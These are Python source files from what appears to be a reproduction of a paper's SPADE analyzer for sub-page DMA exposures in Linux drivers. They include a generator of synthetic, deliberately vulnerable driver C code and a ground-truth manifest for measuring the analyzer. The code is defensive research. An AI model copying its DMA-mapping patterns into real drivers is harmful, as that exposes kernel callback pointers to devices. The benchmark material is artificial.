                    f"{f.name}|nest|{ref.array_len}|"
                    + self._fingerprint(ref.base, _stack + (name,)))
            else:
                parts.append(f"{f.name}|{ref.base}|{ref.is_struct}|"
                             f"{ref.pointer_level}|{ref.array_len}")
        digest = "|".join(parts)
        self._fingerprints[name] = digest
        return digest

    def layout(self, name: str, *,
               _stack: tuple[str, ...] = ()) -> StructLayoutInfo:
        """Compute the byte layout of ``struct name``."""
        cached = self._layout_cache.get(name)
        if cached is not None:
            return cached
        if name in _stack:
            raise AnalysisError(f"recursive by-value struct {name}")
        struct_def = self._structs.get(name)
        if struct_def is None:
            raise AnalysisError(f"unknown struct {name}")
        fingerprint = self._fingerprint(name, _stack)
        interned = _LAYOUT_INTERN.get(fingerprint)
        if interned is not None:
            self._layout_cache[name] = interned
            return interned
        info = StructLayoutInfo(name, 0)
        offset = 0
        max_align = 1
        for f in struct_def.fields:
            size, align = self._field_size_align(f, _stack + (name,))
            max_align = max(max_align, align)
            offset = -(-offset // align) * align
            info.fields.append(LaidOutField(
                f.name, offset, size,
                is_callback=f.is_func_ptr, type=f.type))
            offset += size
        info.size = -(-offset // max_align) * max_align
        self._layout_cache[name] = info
        _LAYOUT_INTERN[fingerprint] = info
        return info

    # -- callback reachability ---------------------------------------------------

    def direct_callbacks(self, name: str,
                         prefix: str = "") -> list[tuple[str, int]]:
        """(dotted_name, count) of fn-ptr fields on the struct's own
        page image -- including structs nested by value.

        Memoized per struct: the analysis asks for the same struct's
        callbacks once per finding (1019 times over the Table-2
        corpus), and the spoofable-reachability BFS asks again for
        every node it visits.
        """
        base = self._direct_memo.get(name)
        if base is None:
            base = self._direct_callbacks_uncached(name)
            self._direct_memo[name] = base
        if not prefix:
            return list(base)
        return [(prefix + dotted, count) for dotted, count in base]

    def _direct_callbacks_uncached(self, name: str
                                   ) -> list[tuple[str, int]]:
        struct_def = self._structs.get(name)
        if struct_def is None:
            return []
        out: list[tuple[str, int]] = []
        for f in struct_def.fields:
            if f.is_func_ptr:
                out.append((f.name, f.func_ptr_count))
            elif f.type is not None and f.type.is_struct \
                    and f.type.pointer_level == 0 \
                    and f.type.base in self._structs:
                out.extend(self.direct_callbacks(
                    f.type.base, f.name + "."))
        return out

    def direct_callback_count(self, name: str) -> int:
        return sum(count for _n, count in self.direct_callbacks(name))

    def _pointer_targets(self, name: str) -> set[str]:
        cached = self._targets_memo.get(name)
        if cached is None:
            cached = self._pointer_targets_uncached(name)
            self._targets_memo[name] = cached
        return cached

    def _pointer_targets_uncached(self, name: str) -> set[str]:
        struct_def = self._structs.get(name)
        if struct_def is None:
            return set()
        targets = set()
        for f in struct_def.fields:
            if f.is_func_ptr or f.type is None:
                continue
            if f.type.is_struct and f.type.pointer_level > 0 \
                    and f.type.base in self._structs:
                targets.add(f.type.base)
            elif f.type.is_struct and f.type.pointer_level == 0 \
                    and f.type.base in self._structs:
                # by-value nesting: its pointers are our pointers
                targets |= self._pointer_targets(f.type.base)
        return targets

    def spoofable_callbacks(self, name: str) -> tuple[int, list[str]]:
        """(total, visited struct names) reachable via pointer fields.

        BFS over the struct-pointer graph, each type visited once; the
        root's own (direct) callbacks are excluded -- they are counted
        by :meth:`direct_callback_count`.
        """
        cached = self._spoof_memo.get(name)
        if cached is not None:
            total, order = cached
            return total, list(order)
        visited: set[str] = {name}
        queue = sorted(self._pointer_targets(name))
        order: list[str] = []
        total = 0
        while queue:
            current = queue.pop(0)
            if current in visited:
                continue
            visited.add(current)
            order.append(current)
            total += self.direct_callback_count(current)
            for nxt in sorted(self._pointer_targets(current)):
                if nxt not in visited:
                    queue.append(nxt)
        self._spoof_memo[name] = (total, order)
        return total, list(order)
