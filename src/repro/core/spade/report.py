"""SPADE output rendering: Figure-2 traces and the Table-2 summary."""

from __future__ import annotations

from repro.core.spade.findings import Finding, Table2Stats


def format_finding_trace(finding: Finding) -> str:
    """Figure-2-style numbered trace for one call site.

    Mirrors the paper's example: the recursive chain of declarations,
    calls, and assignments first, then the impact lines (exposed /
    spoofable callback counts).
    """
    lines = [f"=== {finding.file}:{finding.line} maps "
             f"{finding.mapped_expr!r} ==="]
    for i, entry in enumerate(finding.trace, start=1):
        lines.append(f"[{i}] {entry}")
    verdict = ("VULNERABLE: " + ", ".join(sorted(finding.exposures))
               if finding.vulnerable else "no static exposure found")
    lines.append(verdict)
    return "\n".join(lines)


def format_table2(stats: Table2Stats) -> str:
    """The paper's Table 2, with the same row labels and percentages."""
    total_calls, total_files = stats.total
    lines = [f"{'Stat':34s} {'#API calls':>16s} {'#Files':>16s}"]

    def cell(count: int, total: int, *, with_pct: bool) -> str:
        if with_pct:
            return f"{count} ({100.0 * count / total:.1f}%)"
        return str(count)

    for label, calls, files in stats.rows():
        with_pct = label.startswith(("1.", "2."))
        lines.append(
            f"{label:34s} {cell(calls, total_calls, with_pct=with_pct):>16s}"
            f" {cell(files, total_files, with_pct=with_pct):>16s}")
    vuln_calls, _vuln_files = stats.vulnerable
    lines.append(
        f"-> {vuln_calls} dma-map calls "
        f"({100.0 * vuln_calls / total_calls:.1f}%) with a potential "
        f"vulnerability")
    return "\n".join(lines)
