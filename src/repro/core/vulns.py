"""The four sub-page vulnerability types (section 3.2, Figure 1).

"Anytime an I/O buffer smaller than a page is DMA-mapped, all
additional information that resides on the same physical page becomes
accessible to the device."
"""

from __future__ import annotations

import enum
from dataclasses import dataclass, field

from repro.dma.tracking import MappingRegistry
from repro.mem.phys import PAGE_SIZE
from repro.mem.slab import SlabAllocator


class VulnType(enum.Enum):
    """Figure 1's taxonomy."""

    #: (a) the I/O buffer is embedded in a larger driver data structure
    #: whose metadata (callback pointers) shares the mapped page.
    DRIVER_METADATA = "A"
    #: (b) an OS subsystem places its own metadata (allocator freelists,
    #: skb_shared_info) on the mapped page.
    OS_METADATA = "B"
    #: (c) the page is reachable through multiple IOVAs, so unmapping
    #: one leaves the device with access through another.
    MULTIPLE_IOVA = "C"
    #: (d) an unrelated, dynamically allocated buffer coincidentally
    #: shares the page (random co-location).
    RANDOM_COLOCATION = "D"

    @property
    def description(self) -> str:
        return _DESCRIPTIONS[self]

    @property
    def blamed_on(self) -> str:
        """Whose design is at fault (section 4.1.3's 13%-vs-60% split)."""
        return ("driver" if self is VulnType.DRIVER_METADATA else "OS")


_DESCRIPTIONS = {
    VulnType.DRIVER_METADATA:
        "I/O buffer embedded in a driver struct exposing its metadata",
    VulnType.OS_METADATA:
        "OS subsystem metadata co-resident with the I/O buffer",
    VulnType.MULTIPLE_IOVA:
        "page mapped by multiple IOVAs; unmap of one does not revoke",
    VulnType.RANDOM_COLOCATION:
        "unrelated kernel buffer randomly co-located on the mapped page",
}


@dataclass
class SubPageVulnerability:
    """One concrete sub-page exposure found on a live system."""

    vuln_type: VulnType
    pfn: int
    device: str
    perm: str
    #: human-oriented description of what is exposed
    exposed: str
    #: byte ranges on the page that hold sensitive data, as
    #: (offset, size, label) triples
    regions: list[tuple[int, int, str]] = field(default_factory=list)

    def __str__(self) -> str:
        return (f"type {self.vuln_type.value} on PFN {self.pfn:#x} "
                f"[{self.perm}] via {self.device}: {self.exposed}")


def classify_page_exposures(pfn: int, registry: MappingRegistry,
                            slab: SlabAllocator) -> list[SubPageVulnerability]:
    """Runtime classification of what frame *pfn* exposes right now.

    Used by experiments and by D-KASAN reporting; detects type (c)
    (multiple live mappings) and type (d) (live slab objects other than
    the mapped buffer on the same frame).
    """
    mappings = registry.mappings_on_pfn(pfn)
    if not mappings:
        return []
    found: list[SubPageVulnerability] = []
    if len(mappings) > 1:
        found.append(SubPageVulnerability(
            VulnType.MULTIPLE_IOVA, pfn, mappings[0].device,
            "+".join(sorted({m.perm.value for m in mappings})),
            f"{len(mappings)} live IOVAs reference this frame",
            regions=[(m.paddr % PAGE_SIZE if m.first_pfn == pfn else 0,
                      m.size, f"mapping {m.mapping_id}")
                     for m in mappings]))
    page_lo = pfn * PAGE_SIZE
    mapped_ranges = [(m.paddr, m.paddr + m.size) for m in mappings]
    strangers = []
    for obj_paddr, obj_size in slab.live_objects_on_pfn(pfn):
        inside_a_mapping = any(lo <= obj_paddr and obj_paddr + obj_size <= hi
                               for lo, hi in mapped_ranges)
        if not inside_a_mapping:
            strangers.append((obj_paddr - page_lo, obj_size,
                              "co-located kmalloc object"))
    if strangers:
        found.append(SubPageVulnerability(
            VulnType.RANDOM_COLOCATION, pfn, mappings[0].device,
            "+".join(sorted({m.perm.value for m in mappings})),
            f"{len(strangers)} unrelated kmalloc objects on the mapped page",
            regions=strangers))
    return found
