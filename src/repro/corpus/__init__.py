"""Synthetic Linux-5.0-shaped driver source corpus.

SPADE in the paper analyzed the real Linux 5.0 tree (1019
``dma_map_single`` calls across 447 files). That tree is unavailable
offline, so this package generates a C source corpus whose structural
composition mirrors the paper's Table 2 exactly: the same counts of
skb->data maps, build_skb users, struct-embedded buffers exposing
callbacks (directly and spoofably), netdev_priv-style private-data
maps, stack maps, page_frag (type (c)) allocations, and benign kmalloc
buffers. Each file is realistic driver C that a syntactic analyzer
must genuinely parse and backtrack; the generator also emits a
ground-truth manifest so SPADE's precision/recall are *measured*.
"""

from repro.corpus.generate import CorpusGenerator, SourceTree
from repro.corpus.linux50 import LINUX50_COMPOSITION, CategorySpec
from repro.corpus.manifest import CallSiteTruth, Manifest

__all__ = [
    "CorpusGenerator",
    "SourceTree",
    "LINUX50_COMPOSITION",
    "CategorySpec",
    "CallSiteTruth",
    "Manifest",
]
