"""Corpus generator: a Linux-5.0-shaped synthetic source tree.

Deterministic per seed. Produces a :class:`SourceTree` (path ->
content) and the ground-truth :class:`Manifest` of every dma-map call
site.
"""

from __future__ import annotations

import os
from dataclasses import dataclass, field

from repro.corpus.linux50 import LINUX50_COMPOSITION, CategorySpec
from repro.corpus.manifest import CallSiteTruth, Manifest
from repro.corpus.nvme_fc import NVME_FC_PATH, NVME_FC_SOURCE
from repro.corpus.structs_db import SHARED_HEADERS
from repro.corpus.templates import RENDERERS
from repro.errors import CorpusError
from repro.sim.rng import DeterministicRng

#: bump when generated output changes for the same (seed, composition);
#: part of every cached-corpus key (see :mod:`repro.perfcache`)
GENERATOR_VERSION = 1

_SYLLABLES = ("ar", "ben", "cor", "dex", "el", "far", "gal", "hex",
              "ix", "jet", "kor", "lan", "mos", "net", "ox", "pex",
              "qua", "rix", "sol", "tem", "ul", "vex", "wim", "xen",
              "yar", "zet")

_VENDOR_DIRS = ("drivers/net/ethernet", "drivers/net/wireless",
                "drivers/nvme/host", "drivers/scsi", "drivers/crypto",
                "drivers/usb/host", "drivers/infiniband/hw",
                "drivers/gpu/drm", "drivers/firewire", "drivers/block")


@dataclass
class SourceTree:
    """An in-memory source tree: path -> file content."""

    files: dict[str, str] = field(default_factory=dict)

    def add(self, path: str, content: str) -> None:
        if path in self.files:
            raise CorpusError(f"duplicate path {path}")
        self.files[path] = content

    def read(self, path: str) -> str:
        try:
            return self.files[path]
        except KeyError:
            raise CorpusError(f"no such file {path}") from None

    def paths(self, *, suffix: str | None = None) -> list[str]:
        out = sorted(self.files)
        if suffix is not None:
            out = [p for p in out if p.endswith(suffix)]
        return out

    @property
    def total_lines(self) -> int:
        return sum(content.count("\n") for content in self.files.values())

    def write_to_dir(self, root: str) -> None:
        """Materialize the tree on disk (for external inspection)."""
        for path, content in self.files.items():
            full = os.path.join(root, path)
            os.makedirs(os.path.dirname(full), exist_ok=True)
            with open(full, "w") as handle:
                handle.write(content)

    @classmethod
    def from_dir(cls, root: str, *,
                 suffixes: tuple[str, ...] = (".c", ".h")
                 ) -> "SourceTree":
        """Load a tree from disk, e.g. to run SPADE on real sources.

        Files that are not valid UTF-8 (or not C) are skipped; paths
        are stored relative to *root* with forward slashes.
        """
        tree = cls()
        for dirpath, _dirnames, filenames in os.walk(root):
            for filename in sorted(filenames):
                if not filename.endswith(suffixes):
                    continue
                full = os.path.join(dirpath, filename)
                rel = os.path.relpath(full, root).replace(os.sep, "/")
                try:
                    with open(full, encoding="utf-8") as handle:
                        tree.add(rel, handle.read())
                except (UnicodeDecodeError, OSError):
                    continue
        return tree


def _call_site_lines(text: str) -> list[int]:
    """1-based line numbers of dma_map_single call sites, in order."""
    return [i + 1 for i, line in enumerate(text.splitlines())
            if "dma_map_single(" in line]


class CorpusGenerator:
    """Generates the corpus according to a composition spec."""

    def __init__(self, seed: int = 2021, *,
                 composition: tuple[CategorySpec, ...] =
                 LINUX50_COMPOSITION) -> None:
        self._seed = seed
        self._composition = composition

    def _driver_names(self, rng: DeterministicRng, count: int) -> list[str]:
        names: list[str] = []
        seen = set()
        while len(names) < count:
            parts = [rng.choice(_SYLLABLES)
                     for _ in range(rng.randint(2, 3))]
            name = "".join(parts)
            if rng.random() < 0.35:
                name += str(rng.randint(2, 9))
            if name in seen:
                continue
            seen.add(name)
            names.append(name)
        return names

    def generate(self) -> tuple[SourceTree, Manifest]:
        """Build the tree and its ground-truth manifest."""
        rng = DeterministicRng(self._seed, domain="corpus")
        tree = SourceTree()
        manifest = Manifest()
        for path, content in SHARED_HEADERS.items():
            tree.add(path, content)

        nr_files = sum(spec.nr_files for spec in self._composition)
        names = self._driver_names(rng.child("names"), nr_files)
        name_iter = iter(names)
        used_nvme_fc = False
        for spec in self._composition:
            renderer = RENDERERS[spec.name]
            for bucket_files, calls_per_file in spec.buckets:
                for _ in range(bucket_files):
                    drv = next(name_iter)
                    if spec.name == "callback_direct" \
                            and not used_nvme_fc \
                            and calls_per_file == 2:
                        # Figure 2's subject: the handcrafted nvme_fc
                        # file stands in for one direct-callback driver.
                        used_nvme_fc = True
                        # nvme_fc exposes its callback directly AND has
                        # 931 spoofable callbacks via pointer fields.
                        self._add_file(
                            tree, manifest, NVME_FC_PATH, NVME_FC_SOURCE,
                            spec.name,
                            [frozenset({"callback_direct",
                                        "callback_spoof"})] * 2)
                        continue
                    vendor = rng.choice(_VENDOR_DIRS)
                    path = f"{vendor}/{drv}/{drv}_main.c"
                    text, exposures = renderer(drv, rng.child(drv),
                                               calls_per_file)
                    self._add_file(tree, manifest, path, text,
                                   spec.name, exposures)
        return tree, manifest

    def _add_file(self, tree: SourceTree, manifest: Manifest, path: str,
                  text: str, category: str,
                  exposures: list[frozenset]) -> None:
        lines = _call_site_lines(text)
        if len(lines) != len(exposures):
            raise CorpusError(
                f"{path}: {len(lines)} dma_map_single sites but "
                f"{len(exposures)} exposure records")
        tree.add(path, text)
        for line, exposure in zip(lines, exposures):
            manifest.add(CallSiteTruth(path, line, category, exposure))
