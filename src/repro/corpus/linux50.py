"""The Linux-5.0 composition the corpus reproduces (Table 2).

The paper's totals: 1019 dma-map calls over 447 files, of which

====== ============================ ======== =======
row    stat                         calls    files
====== ============================ ======== =======
1      callbacks exposed            156      57
2      skb_shared_info mapped       464      232
3      callbacks exposed directly   54       28
4      private data mapped          19       7
5      stack mapped                 3        3
6      type C vulnerability         344      227
7      build_skb used               46       40
--     total                        1019     447
====== ============================ ======== =======

and "in total ... 742 dma-map calls (72.8%)" with a potential
vulnerability.

The generator realizes these with disjoint file categories whose rows
overlap the way the paper's do: type (c) spans the page_frag-allocated
skb files, the build_skb files, and the pure page_frag files; the
callback rows split into direct (type (a)) and spoofable.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class CategorySpec:
    """One generator category: how many files, with how many calls each."""

    name: str
    #: list of (nr_files, calls_per_file) buckets
    buckets: tuple[tuple[int, int], ...]

    @property
    def nr_files(self) -> int:
        return sum(nf for nf, _cpf in self.buckets)

    @property
    def nr_calls(self) -> int:
        return sum(nf * cpf for nf, cpf in self.buckets)


#: Disjoint categories that reproduce Table 2's marginals exactly.
LINUX50_COMPOSITION: tuple[CategorySpec, ...] = (
    # skb->data maps whose buffers come from netdev/napi_alloc_skb
    # (page_frag): rows 2 and 6. 244 calls / 133 files.
    CategorySpec("skb_type_c", ((111, 2), (22, 1))),
    # skb->data maps on the TX path (no page_frag): row 2 only.
    # 220 calls / 99 files.
    CategorySpec("skb_plain", ((22, 3), (77, 2))),
    # build_skb around a page_frag buffer: rows 7 and 6.
    # 46 calls / 40 files.
    CategorySpec("build_skb", ((6, 2), (34, 1))),
    # struct-embedded buffers exposing callback pointers directly
    # (type (a)): rows 1 and 3. 54 calls / 28 files.
    CategorySpec("callback_direct", ((26, 2), (2, 1))),
    # struct-embedded buffers whose pointer fields make callbacks
    # spoofable: row 1 minus row 3. 102 calls / 29 files.
    CategorySpec("callback_spoof", ((15, 4), (14, 3))),
    # buffers derived from netdev_priv/aead_request_ctx/scsi_cmd_priv:
    # row 4. 19 calls / 7 files.
    CategorySpec("private_data", ((5, 3), (2, 2))),
    # on-stack buffers mapped: row 5. 3 calls / 3 files.
    CategorySpec("stack", ((3, 1),)),
    # plain page_frag buffers (no skb involvement): row 6 remainder.
    # 54 calls / 54 files.
    CategorySpec("page_frag_plain", ((54, 1),)),
    # benign: kmalloc'd flat buffers. 277 calls / 54 files.
    CategorySpec("benign", ((7, 6), (47, 5))),
)


def scaled_composition(scale: float, *,
                       composition: tuple[CategorySpec, ...] =
                       LINUX50_COMPOSITION) -> tuple[CategorySpec, ...]:
    """A proportionally shrunken composition for fast campaign seeds.

    Every category keeps at least one file (its first bucket), so the
    full vulnerability-pattern mix survives even at tiny scales; file
    counts in each bucket are rounded, calls-per-file are preserved.
    ``scale >= 1.0`` returns *composition* unchanged.
    """
    if scale <= 0:
        raise ValueError(f"bad composition scale {scale}")
    if scale >= 1.0:
        return composition
    scaled = []
    for spec in composition:
        buckets = []
        for index, (nr_files, calls_per_file) in enumerate(spec.buckets):
            nr_scaled = round(nr_files * scale)
            if index == 0:
                nr_scaled = max(1, nr_scaled)
            if nr_scaled:
                buckets.append((nr_scaled, calls_per_file))
        scaled.append(CategorySpec(spec.name, tuple(buckets)))
    return tuple(scaled)


def expected_table2() -> dict[str, tuple[int, int]]:
    """Table 2 rows implied by the composition: name -> (calls, files)."""
    by_name = {spec.name: spec for spec in LINUX50_COMPOSITION}

    def calls(*names: str) -> int:
        return sum(by_name[n].nr_calls for n in names)

    def files(*names: str) -> int:
        return sum(by_name[n].nr_files for n in names)

    return {
        "callbacks_exposed": (calls("callback_direct", "callback_spoof"),
                              files("callback_direct", "callback_spoof")),
        "skb_shared_info_mapped": (calls("skb_type_c", "skb_plain"),
                                   files("skb_type_c", "skb_plain")),
        "callbacks_exposed_directly": (calls("callback_direct"),
                                       files("callback_direct")),
        "private_data_mapped": (calls("private_data"),
                                files("private_data")),
        "stack_mapped": (calls("stack"), files("stack")),
        "type_c": (calls("skb_type_c", "build_skb", "page_frag_plain"),
                   files("skb_type_c", "build_skb", "page_frag_plain")),
        "build_skb_used": (calls("build_skb"), files("build_skb")),
        "total": (sum(s.nr_calls for s in LINUX50_COMPOSITION),
                  sum(s.nr_files for s in LINUX50_COMPOSITION)),
        "vulnerable": (sum(s.nr_calls for s in LINUX50_COMPOSITION
                           if s.name != "benign"),
                       sum(s.nr_files for s in LINUX50_COMPOSITION
                           if s.name != "benign")),
    }
