"""Ground truth for the generated corpus.

The generator knows exactly which vulnerability pattern each
``dma_map_single`` call realizes; SPADE does not. Comparing SPADE's
findings against this manifest turns "the percentages match the paper"
into a measured precision/recall claim.
"""

from __future__ import annotations

from collections import Counter
from dataclasses import dataclass, field


#: exposure labels a call site can carry (a call may carry several)
EXPOSURES = (
    "skb_shared_info",     # Table 2 row 2
    "callback_direct",     # row 3 (subset of row 1)
    "callback_spoof",      # row 1 minus row 3
    "private_data",        # row 4
    "stack",               # row 5
    "type_c",              # row 6
    "build_skb",           # row 7
)


@dataclass(frozen=True)
class CallSiteTruth:
    """One dma-map call: where it is and what it exposes."""

    path: str
    line: int
    category: str
    exposures: frozenset[str]

    @property
    def vulnerable(self) -> bool:
        return bool(self.exposures)


@dataclass
class Manifest:
    """All call sites of one generated corpus."""

    sites: list[CallSiteTruth] = field(default_factory=list)

    def add(self, site: CallSiteTruth) -> None:
        self.sites.append(site)

    def by_path(self, path: str) -> list[CallSiteTruth]:
        return [s for s in self.sites if s.path == path]

    @property
    def nr_calls(self) -> int:
        return len(self.sites)

    @property
    def nr_files(self) -> int:
        return len({s.path for s in self.sites})

    def calls_with(self, exposure: str) -> list[CallSiteTruth]:
        return [s for s in self.sites if exposure in s.exposures]

    def files_with(self, exposure: str) -> set[str]:
        return {s.path for s in self.calls_with(exposure)}

    def table2_rows(self) -> dict[str, tuple[int, int]]:
        """Ground-truth Table 2: row -> (#calls, #files)."""
        def row(*exposures: str) -> tuple[int, int]:
            calls = [s for s in self.sites
                     if any(e in s.exposures for e in exposures)]
            return len(calls), len({s.path for s in calls})

        vulnerable = [s for s in self.sites if s.vulnerable]
        return {
            "callbacks_exposed": row("callback_direct", "callback_spoof"),
            "skb_shared_info_mapped": row("skb_shared_info"),
            "callbacks_exposed_directly": row("callback_direct"),
            "private_data_mapped": row("private_data"),
            "stack_mapped": row("stack"),
            "type_c": row("type_c"),
            "build_skb_used": row("build_skb"),
            "total": (self.nr_calls, self.nr_files),
            "vulnerable": (len(vulnerable),
                           len({s.path for s in vulnerable})),
        }

    def category_counts(self) -> Counter:
        return Counter(s.category for s in self.sites)
