"""The handcrafted nvme_fc-style file behind Figure 2.

The paper's SPADE output example is a path in the nvme_fc host driver
where ``&op->rsp_iu`` is DMA-mapped, exposing ``struct
nvme_fc_fcp_op``: one callback pointer directly (``fcp_req.done``) and
931 further callback pointers spoofable through the struct's pointer
fields. This module reproduces that struct graph so SPADE's transitive
analysis arrives at exactly 1 direct + 931 spoofable.

Spoofable accounting (documented in ``core.spade.pahole``): walk the
pointer graph from the mapped struct, visiting each struct type once,
and sum the function-pointer fields found (array fields count their
length). Here: nvme_ctrl_ops 9 + nvme_fc_port_template 28 +
blk_mq_ops 12 + device_driver 5 + request 1 + request_queue 2 +
lldd event dispatch 874 = 931.
"""

NVME_FC_PATH = "drivers/nvme/host/fc.c"

NVME_FC_SOURCE = """\
// SPDX-License-Identifier: GPL-2.0
/*
 * nvme_fc: NVMe over Fibre Channel host transport (synthetic
 * reproduction of the Linux 5.0 structure SPADE's Figure 2 traces).
 */

#include <linux/types.h>
#include <linux/slab.h>
#include <linux/skbuff.h>
#include <linux/netdevice.h>
#include <linux/dma-mapping.h>
#include <linux/device.h>

struct nvme_fc_ctrl;
struct nvme_fc_queue;
struct request;

struct nvme_ctrl_ops {
    int (*reg_read32)(struct nvme_fc_ctrl *ctrl, u32 off, u32 *val);
    int (*reg_write32)(struct nvme_fc_ctrl *ctrl, u32 off, u32 val);
    int (*reg_read64)(struct nvme_fc_ctrl *ctrl, u32 off, u64 *val);
    void (*free_ctrl)(struct nvme_fc_ctrl *ctrl);
    void (*submit_async_event)(struct nvme_fc_ctrl *ctrl);
    void (*delete_ctrl)(struct nvme_fc_ctrl *ctrl);
    int (*get_address)(struct nvme_fc_ctrl *ctrl, u8 *buf, int size);
    void (*stop_ctrl)(struct nvme_fc_ctrl *ctrl);
    int (*reinit_request)(void *data, struct request *rq);
};

struct nvme_fc_port_template {
    void (*localport_delete)(void *lport);
    void (*remoteport_delete)(void *rport);
    int (*create_queue)(void *lport, u32 qidx, u16 qsize, void *handle);
    void (*delete_queue)(void *lport, u32 qidx, void *handle);
    int (*ls_req)(void *lport, void *rport, void *lsreq);
    int (*fcp_io)(void *lport, void *rport, void *hw_queue, void *fcpreq);
    void (*ls_abort)(void *lport, void *rport, void *lsreq);
    void (*fcp_abort)(void *lport, void *rport, void *hwq, void *fcpreq);
    int (*xmt_ls_rsp)(void *lport, void *rport, void *lsrsp);
    void (*map_queues)(void *lport, void *map);
    int (*bsg_request)(void *lport, void *rport, void *job);
    int (*defer_rcv)(void *rport, void *fcpreq);
    void (*discovery_event)(void *lport);
    int (*port_reset)(void *lport);
    int (*port_online)(void *lport);
    int (*port_offline)(void *lport);
    int (*vport_create)(void *lport, void *vport);
    int (*vport_delete)(void *vport);
    int (*tgt_fcp_req)(void *tgtport, void *fcpreq);
    void (*tgt_fcp_abort)(void *tgtport, void *fcpreq);
    void (*tgt_fcp_req_release)(void *tgtport, void *fcpreq);
    int (*tgt_ls_req)(void *tgtport, void *lsreq);
    void (*tgt_discovery_evt)(void *tgtport);
    int (*assoc_create)(void *tgtport, void *assoc);
    void (*assoc_delete)(void *tgtport, void *assoc);
    int (*host_traddr)(void *lport, u64 *wwnn, u64 *wwpn);
    void (*host_invalidate)(void *rport);
    int (*fw_diag)(void *lport, void *diag);
};

struct blk_mq_ops {
    int (*queue_rq)(void *hctx, void *bd);
    void (*commit_rqs)(void *hctx);
    int (*get_budget)(void *q);
    void (*put_budget)(void *q);
    int (*timeout)(struct request *rq, int reserved);
    int (*poll)(void *hctx, u32 tag);
    void (*complete)(struct request *rq);
    int (*init_hctx)(void *hctx, void *data, u32 idx);
    void (*exit_hctx)(void *hctx, u32 idx);
    int (*init_request)(void *set, struct request *rq, u32 idx, u32 node);
    void (*exit_request)(void *set, struct request *rq, u32 idx);
    void (*initialize_rq_fn)(struct request *rq);
};

struct blk_mq_tag_set {
    struct blk_mq_ops *ops;
    u32 nr_hw_queues;
    u32 queue_depth;
};

struct request_queue {
    struct blk_mq_ops *mq_ops;
    void (*make_request_fn)(struct request_queue *q, void *bio);
    void (*softirq_done_fn)(struct request *rq);
    u32 nr_requests;
};

struct request {
    struct request_queue *q;
    void (*end_io)(struct request *rq, int error);
    u32 tag;
    u32 cmd_flags;
};

struct nvme_fc_lldd_dispatch {
    void (*evt_handler[874])(void);
};

struct nvme_fc_lport {
    struct nvme_fc_port_template *ops;
    u64 node_name;
    u64 port_name;
};

struct nvme_fc_rport {
    struct nvme_fc_port_template *ops;
    u64 port_id;
};

struct nvme_fc_ctrl {
    struct nvme_fc_lport *lport;
    struct nvme_fc_rport *rport;
    struct blk_mq_tag_set *tag_set;
    struct nvme_ctrl_ops *ops;
    struct device *dev;
    struct nvme_fc_lldd_dispatch *lldd;
    u32 cnum;
};

struct nvme_fc_queue {
    struct nvme_fc_ctrl *ctrl;
    u32 qnum;
    u32 seqno;
};

struct nvme_fcp_req {
    void *cmdaddr;
    void *rspaddr;
    dma_addr_t cmddma;
    dma_addr_t rspdma;
    u32 cmdlen;
    u32 rsplen;
    void (*done)(struct nvme_fcp_req *req);
};

struct nvme_fc_fcp_op {
    struct nvme_fc_ctrl *ctrl;
    struct nvme_fc_queue *queue;
    struct request *rq;
    struct nvme_fcp_req fcp_req;
    u32 state;
    u32 flags;
    u8 cmd_iu[96];
    u8 rsp_iu[128];
};

static int nvme_fc_map_data(struct nvme_fc_ctrl *ctrl,
                            struct nvme_fc_fcp_op *op)
{
    dma_addr_t addr;

    addr = dma_map_single(ctrl->dev, &op->rsp_iu, 128,
                          DMA_FROM_DEVICE);
    op->fcp_req.rspdma = addr;
    op->fcp_req.rsplen = 128;
    return 0;
}

static dma_addr_t nvme_fc_map_iu(struct nvme_fc_ctrl *ctrl, void *buf,
                                 u32 len)
{
    dma_addr_t addr;

    addr = dma_map_single(ctrl->dev, buf, len, DMA_TO_DEVICE);
    return addr;
}

static int nvme_fc_init_iod(struct nvme_fc_ctrl *ctrl,
                            struct nvme_fc_fcp_op *op)
{
    dma_addr_t addr;

    addr = nvme_fc_map_iu(ctrl, &op->cmd_iu, 96);
    op->fcp_req.cmddma = addr;
    op->state = 1;
    return 0;
}

static int nvme_fc_probe(struct device *dev)
{
    struct nvme_fc_ctrl *ctrl;

    ctrl = kzalloc(sizeof(struct nvme_fc_ctrl), GFP_KERNEL);
    if (!ctrl)
        return -12;
    ctrl->dev = dev;
    return 0;
}
"""
