"""Shared kernel headers for the synthetic corpus.

These are the ``include/linux/*.h`` files every generated driver
includes. SPADE parses them for struct layouts exactly like pahole
reads DWARF from a compiled kernel: ``skb_shared_info`` carries the
``destructor_arg`` callback, the ops tables carry the function-pointer
counts the spoofability analysis adds up.
"""

from __future__ import annotations

TYPES_H = """\
/* include/linux/types.h -- fixed-width and kernel scalar types */
typedef unsigned char u8;
typedef unsigned short u16;
typedef unsigned int u32;
typedef unsigned long long u64;
typedef unsigned long size_t;
typedef unsigned long dma_addr_t;
typedef unsigned int gfp_t;
typedef int atomic_t;
typedef u64 netdev_features_t;
"""

SKBUFF_H = """\
/* include/linux/skbuff.h -- socket buffers */

struct net_device;
struct sock;
struct page;

struct skb_frag_t {
    struct page *page;
    u32 page_offset;
    u32 size;
};

struct ubuf_info {
    void (*callback)(struct ubuf_info *ubuf, int zerocopy);
    void *ctx;
    u64 desc;
    atomic_t refcnt;
};

struct skb_shared_hwtstamps {
    u64 hwtstamp;
};

struct skb_shared_info {
    u8 __unused;
    u8 meta_len;
    u8 nr_frags;
    u8 tx_flags;
    u16 gso_size;
    u16 gso_segs;
    struct sk_buff *frag_list;
    struct skb_shared_hwtstamps hwtstamps;
    u32 gso_type;
    u32 tskey;
    atomic_t dataref;
    struct ubuf_info *destructor_arg;
    struct skb_frag_t frags[17];
};

struct sk_buff {
    struct sk_buff *next;
    struct sk_buff *prev;
    struct sock *sk;
    struct net_device *dev;
    void (*destructor)(struct sk_buff *skb);
    u32 len;
    u32 data_len;
    u16 queue_mapping;
    u16 protocol;
    u8 *head;
    u8 *data;
    u8 *tail;
    u8 *end;
};

struct sk_buff *alloc_skb(u32 size, gfp_t gfp);
struct sk_buff *netdev_alloc_skb(struct net_device *dev, u32 length);
struct sk_buff *napi_alloc_skb(struct napi_struct *napi, u32 length);
struct sk_buff *build_skb(void *data, u32 frag_size);
void *netdev_alloc_frag(u32 fragsz);
void *page_frag_alloc(struct page_frag_cache *nc, u32 fragsz, gfp_t gfp);
void kfree_skb(struct sk_buff *skb);
"""

NETDEVICE_H = """\
/* include/linux/netdevice.h -- network devices */

struct sk_buff;
struct net_device;
struct ifreq;

struct net_device_ops {
